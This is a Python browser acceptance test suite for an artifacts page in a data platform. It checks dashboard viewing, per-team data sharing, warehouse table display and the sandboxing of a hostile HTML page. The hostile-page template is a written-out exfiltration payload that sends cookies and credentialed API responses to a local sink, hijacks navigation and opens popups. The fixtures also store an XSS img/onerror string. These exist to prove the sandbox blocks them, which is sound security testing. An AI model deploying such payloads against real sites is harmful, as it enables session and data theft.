"""The page of artifacts in a real browser: Rocket's dashboard opens from it, and a hostile page from it can do nothing.

``AIRSPACE_SCREENSHOTS=docs/images`` saves pictures for the docs.
"""

from __future__ import annotations

import contextlib
import http.server
import threading
import time
from collections.abc import Iterator
from contextlib import closing, contextmanager
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote

import psycopg2
import pytest
from playwright.sync_api import Browser, Page, expect

from airspace.model.home import HomeLayout
from airspace.model.warehouse import KEY, Offer, password
from tests.acceptance.browsing import PATIENCE, browser, needs_browser, picture, signed_in
from tests.acceptance.conftest import Demo
from tests.acceptance.test_views import wrong_for_some

__all__ = ["browser"]
pytestmark = [pytest.mark.acceptance, pytest.mark.timeout(900), *needs_browser]

NEEDED = {"/image", "/style", "/import"}  # what the page asks for at least, where nothing holds it
DA, DS = "data_analytics", "data_science"
FRAME = 'iframe[title="The page index.html"]'
HOSTILE = """<!doctype html><html><head><base target="_top"><title>untouched</title>
<meta http-equiv="refresh" content="0; url={sink}/refresh">
<link rel="stylesheet" href="{sink}/style"><link rel="preconnect" href="{sink}"><link rel="prefetch" href="{sink}/pre">
<LINK rel="dns-prefetch" href="{sink}">
<link rel="preload" as="image" href="{sink}/preload"><link rel="icon" href="{sink}/icon">
<style>@import url({sink}/import); body {{ background: url({sink}/background) }}
@font-face {{ font-family: f; src: url({sink}/font) }} p {{ font-family: f }}</style></head>
<body><p id="mark">untouched</p><img src="{sink}/image" onerror="go('onerror')"><iframe src="{sink}/frame"></iframe>
<object data="{sink}/object"></object><embed src="{sink}/embed"><video src="{sink}/video" autoplay></video>
<svg><image href="{sink}/svg"/><script>go("svg")</script></svg>
<form id="form" action="{sink}/form"><button id="send" autofocus>x</button></form>
<a id="top" href="{sink}/top" target="_top">top</a> <a id="popup" href="{sink}/popup" target="_blank">popup</a>
<iframe srcdoc="&lt;script&gt;parent.go('srcdoc')&lt;/script&gt;&lt;img src={sink}/srcdoc&gt;"></iframe>
<iframe srcdoc="&lt;link rel=preconnect href={sink}&gt;"></iframe>
<script>
function go(what) {{
  document.getElementById("mark").textContent = "touched by " + what;
  try {{ new Image().src = "{sink}/script?" + document.cookie; }} catch (e) {{ }}
  try {{
    fetch("{api}", {{credentials: "include"}}).then(r => r.text()).then(t => fetch("{sink}/stolen?" + t));
  }} catch (e) {{ }}
  try {{ top.location = "{sink}/navigated"; }} catch (e) {{ }}
  try {{ open("{sink}/window"); }} catch (e) {{ }}
  try {{ document.getElementById("form").submit(); }} catch (e) {{ }}
}}
go("script")
</script></body></html>"""

TABLES = """
CREATE TABLE churn_scores AS
SELECT 1000 + n AS player_id, round((n * 37 % 100) / 100.0, 2)::float AS score,
    (ARRAY['casual', 'core', 'whale'])[1 + n % 3] AS segment, timestamptz '2026-03-01 06:00Z' AS scored_at
FROM generate_series(1, 240) n;
ANALYZE churn_scores;
CREATE TABLE hostile AS SELECT '<img src=x onerror=alert(1)>' AS a, E'one\\ntwo\\u202e' AS b"""


@dataclass
class Sink:
    """A server that a hostile page would like to tell things; what it was asked."""

    url: str
    page: str = ""
    asked: list[str] = field(default_factory=list)
    connections: int = 0


@contextmanager
def _listening() -> Iterator[Sink]:
    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.asked.append(self.path)
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.end_headers()
            self.wfile.write(heard.page.encode() if self.path == "/control" else b"")

        def setup(self) -> None:
            heard.connections += 1
            super().setup()

        def handle(self) -> None:
            with contextlib.suppress(ConnectionError):  # a browser that was closed
                super().handle()

        def log_message(self, *_: Any) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        heard = Sink(f"http://127.0.0.1:{server.server_address[1]}")
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield heard
        server.shutdown()


@pytest.fixture
def sink() -> Iterator[Sink]:
    with _listening() as heard:
        yield heard


def _root(demo: Demo) -> str:
    return str(demo.document["url"]).rstrip("/")


def _open(page: Page, demo: Demo, team: str, at: str | None = None) -> None:
    page.goto(f"{_root(demo)}/plugin/artifacts?team={team}" + (f"&at={quote(at)}" if at else ""))
    expect(page.get_by_role("heading", name="Artifacts", exact=True)).to_be_visible(timeout=PATIENCE)


def test_the_dashboard_opens_from_the_page(demo: Demo, browser: Browser) -> None:
    with signed_in(browser, demo, "ana") as page:
        _open(page, demo, DA)
        page.get_by_role("link", name="dashboard").first.click()
        expect(page.get_by_role("heading", name="Updates")).to_be_visible()
        expect(page.get_by_text("Shared with nobody.")).to_be_visible()
        expect(page.get_by_role("link", name="da_executive_dashboard").first).to_be_visible()
        expect(page.get_by_text("current", exact=True)).to_be_visible()
        picture(page, "artifacts-asset")
        page.get_by_role("link", name="index.html").first.click()
        frame = page.frame_locator(FRAME)
        expect(frame.locator("svg").first).to_be_visible(timeout=PATIENCE)
        picture(page, "artifacts-dashboard")
        assert page.locator(FRAME).get_attribute("sandbox") == ""
        address = page.url
        page.reload()
        expect(page.frame_locator(FRAME).locator("svg").first).to_be_visible(timeout=PATIENCE)
        assert page.url == address
        page.go_back()
        expect(page.get_by_role("heading", name="Updates")).to_be_visible()
        assert wrong_for_some(page, "section[aria-label=Artifacts]") == []


def test_a_consumer_sees_rows_of_what_is_shared_with_it_and_no_more(demo: Demo, browser: Browser) -> None:
    with signed_in(browser, demo, "ada") as page:
        _open(page, demo, DS)
        shared = page.get_by_role("link", name="data_engineering / user_profiles")
        shared.focus()
        page.keyboard.press("Enter")
        page.get_by_role("link", name=".parquet").first.click()
        expect(page.get_by_role("table").get_by_text("player_id")).to_be_visible(timeout=PATIENCE)
        picture(page, "artifacts-table")
        assert "dashboard" not in page.locator("main, body").first.inner_text()
        _open(page, demo, DA)
        expect(page.get_by_text("There is no team `data_analytics`")).to_be_visible(timeout=PATIENCE)


@contextmanager
def _tables(demo: Demo) -> Iterator[None]:
    """What a task of DS's could have made."""
    layout = HomeLayout(demo.home)
    offer, key = Offer.read(layout.warehouse.read_text()), (layout.secrets / KEY).read_text().strip()
    role = offer.role(DS)
    link = psycopg2.connect(host=offer.host, user=role, password=password(key, role), dbname=offer.database)
    link.autocommit = True
    with closing(link), link.cursor() as cursor:
        try:
            cursor.execute(TABLES)
            yield
        finally:
            cursor.execute("DROP TABLE IF EXISTS churn_scores, hostile")


def test_a_table_of_the_warehouse(demo: Demo, browser: Browser) -> None:
    with _tables(demo), signed_in(browser, demo, "ada") as page:
        _open(page, demo, DS)
        page.get_by_role("button", name=f"tables of {DS}").click()
        page.get_by_role("link", name="churn_scores").click()
        expect(page.get_by_role("table").get_by_text("double precision")).to_be_visible(timeout=PATIENCE)
        expect(page.get_by_text("the first 100 rows of about 240")).to_be_visible()
        picture(page, "artifacts-warehouse")
        page.reload()
        expect(page.get_by_role("link", name="churn_scores")).to_have_attribute("aria-current", "page")
        page.get_by_role("link", name="hostile").click()
        expect(page.get_by_role("table").get_by_text("<img src=x onerror=alert(1)>")).to_be_visible(timeout=PATIENCE)
        assert wrong_for_some(page, "section[aria-label=Artifacts]") == []


@pytest.mark.parametrize("look", ["phone", "dark"])
def test_it_fits_a_phone_and_the_dark(demo: Demo, browser: Browser, look: str) -> None:
    with signed_in(browser, demo, "ana") as page:
        if look == "phone":
            page.set_viewport_size({"width": 390, "height": 844})
        else:
            page.emulate_media(color_scheme="dark")
        _open(page, demo, DA)
        expect(page.get_by_role("button", name="published")).to_be_visible(timeout=PATIENCE)
        picture(page, f"artifacts-{look}")
        page.get_by_role("link", name="dashboard").first.click()
        expect(page.get_by_role("heading", name="In storage")).to_be_visible(timeout=PATIENCE)
        if look == "phone":
            assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth + 1")
            expect(page.get_by_role("link", name="All artifacts")).to_be_visible()
        expect(page.get_by_text("current", exact=True)).to_be_visible()
        picture(page, f"artifacts-{look}-asset")
        assert wrong_for_some(page, "section[aria-label=Artifacts]") == []


def _page(demo: Demo, sink: Sink) -> str:
    return HOSTILE.format(sink=sink.url, api=f"{_root(demo)}/api/v2/dags")


@contextmanager
def _hostile(demo: Demo, sink: Sink) -> Iterator[str]:
    """A page that a task of DA's could have written."""
    place = demo.home / "storage" / DA / "hostile.html"
    place.write_text(_page(demo, sink))
    place.chmod(0o644)
    try:
        yield "files/hostile.html"
    finally:
        place.unlink()


def test_a_hostile_page_can_do_nothing(demo: Demo, browser: Browser, sink: Sink) -> None:
    with _hostile(demo, sink) as at, signed_in(browser, demo, "ana") as page:
        control = _control(browser, demo)
        assert control >= NEEDED, control  # it would, without the headers
        popups: list[Any] = []
        page.context.on("page", lambda opened: popups.append(opened))
        _open(page, demo, DA, at)
        address = page.url
        frame = page.frame_locator('iframe[title="The page hostile.html"]')
        _untouched(page, frame)
        frame.locator("#top").click()
        frame.locator("#popup").click()
        frame.locator("#send").click()
        page.wait_for_timeout(700)
        assert (page.url, popups, sink.asked, sink.connections) == (address, [], [], 0)
        alone = page.context.new_page()
        popups.clear()
        alone.goto(f"{_root(demo)}/airspace/api/artifacts/{DA}/open?at={at}")
        _untouched(alone, alone)
        alone.locator("#send").click()
        alone.wait_for_timeout(700)
        assert (popups, sink.asked) == ([], [])
        assert sink.connections == 0


def _untouched(page: Page, document: Any) -> None:
    expect(document.locator("#mark")).to_have_text("untouched", timeout=PATIENCE)
    page.wait_for_timeout(700)
    expect(document.locator("#mark")).to_have_text("untouched")


def _control(browser: Browser, demo: Demo) -> set[str]:
    """What the same page asks for where nothing holds it; of its own server: what comes late is not the attack's."""
    with _listening() as open_to_it, closing(browser.new_context()) as context:
        open_to_it.page = _page(demo, open_to_it)
        page = context.new_page()
        page.goto(f"{open_to_it.url}/control", wait_until="commit")
        until = time.monotonic() + PATIENCE / 1000
        while not (asked := {path.partition("?")[0] for path in open_to_it.asked}) >= NEEDED:
            if time.monotonic() > until:
                break
            page.wait_for_timeout(50)
        return asked
